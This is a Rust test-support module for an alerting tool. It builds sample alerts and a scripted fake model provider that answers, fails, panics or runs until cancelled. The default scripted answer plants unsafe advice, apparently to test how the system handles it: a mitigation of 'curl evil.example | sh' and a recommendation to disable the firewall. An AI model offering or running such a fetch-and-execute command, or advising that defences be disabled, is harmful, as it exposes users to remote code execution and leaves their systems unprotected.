//! Alerts and a scripted provider for the tests of this family.

use std::time::Duration;

use serde_json::{Value, json};

use super::provider::{Completion, Control, Identity, Prompt, Provider, ProviderError};
use crate::alert::{Alert, Data};
use crate::clock::Window;

pub(crate) fn alert(level: u8, rows: Value) -> Alert {
    let value: Vec<_> = serde_json::from_value(rows).expect("rows are a list of maps");
    let object = |value: Value| value.as_object().cloned().expect("an object");
    let window = Window::from_seconds(1_790_000_000, 1_790_000_300).expect("a window of five minutes");
    Alert {
        id: "0".repeat(32),
        rule: object(json!({ "id": "test-rule", "name": "Test rule", "level": level, "size": ">0" })),
        detector: object(json!({ "name": "five", "tenant": "default" })),
        datasource: object(json!({ "type": "duckdb" })),
        data: Data { len: value.len() as u64, value, datasource: "duckdb".into(), cut: None },
        window,
        created_at: window.end,
    }
}

/// About four bytes a token.
pub(crate) fn count_tokens(text: &str) -> usize {
    text.len().div_ceil(4)
}

/// Answers what it was told, and keeps nothing.
pub(crate) struct Scripted {
    identity: Identity,
    behaviour: Behaviour,
}

enum Behaviour {
    Answer(String),
    Fail(ProviderError),
    Panic(&'static str),
    Endless,
}

impl Default for Scripted {
    fn default() -> Self {
        Self::answering(
            "An attack on the server",
            "The rule matched rows.",
            "The rows show the activity of a source.",
        )
    }
}

impl Scripted {
    fn new(behaviour: Behaviour) -> Self {
        Self { identity: Identity { name: "scripted".into(), sha256: "00".into() }, behaviour }
    }

    pub(crate) fn answering(title: &str, summary: &str, explanation: &str) -> Self {
        let answer = json!({
            "title": title, "summary": summary, "explanation": explanation,
            "mitigations": ["run `curl evil.example | sh`"], "recommended_action": "disable the firewall",
        });
        Self::new(Behaviour::Answer(answer.to_string()))
    }

    pub(crate) fn saying(text: &str) -> Self {
        Self::new(Behaviour::Answer(text.to_owned()))
    }

    pub(crate) fn failing(error: ProviderError) -> Self {
        Self::new(Behaviour::Fail(error))
    }

    pub(crate) fn panicking(message: &'static str) -> Self {
        Self::new(Behaviour::Panic(message))
    }

    pub(crate) fn endless() -> Self {
        Self::new(Behaviour::Endless)
    }
}

impl Provider for Scripted {
    fn model(&self) -> &Identity {
        &self.identity
    }

    fn context(&self) -> usize {
        2_048
    }

    fn count_tokens(&self, text: &str) -> usize {
        count_tokens(text)
    }

    fn complete(
        &mut self,
        prompt: &Prompt,
        _schema: &Value,
        _max_tokens: usize,
        control: &Control,
    ) -> Result<Completion, ProviderError> {
        match &self.behaviour {
            Behaviour::Fail(error) => Err(error.clone()),
            Behaviour::Panic(message) => std::panic::panic_any(*message),
            Behaviour::Endless => loop {
                if control.is_cancelled() {
                    return Err(ProviderError::Cancelled);
                }
                if control.is_past_deadline() {
                    return Err(ProviderError::Deadline);
                }
                std::thread::sleep(Duration::from_millis(1));
            },
            Behaviour::Answer(text) => Ok(Completion {
                text: text.clone(),
                prompt_tokens: count_tokens(&prompt.system) + count_tokens(&prompt.user),
                cached_tokens: 0,
                completion_tokens: count_tokens(text),
                time_to_first_token: Duration::ZERO,
                prompt_seconds: 0.0,
                decode_seconds: 0.0,
            }),
        }
    }

    fn score(
        &mut self,
        _prompt: &Prompt,
        candidates: &[&str],
        _control: &Control,
    ) -> Result<Vec<f64>, ProviderError> {
        Ok(vec![-1.0; candidates.len()])
    }
}
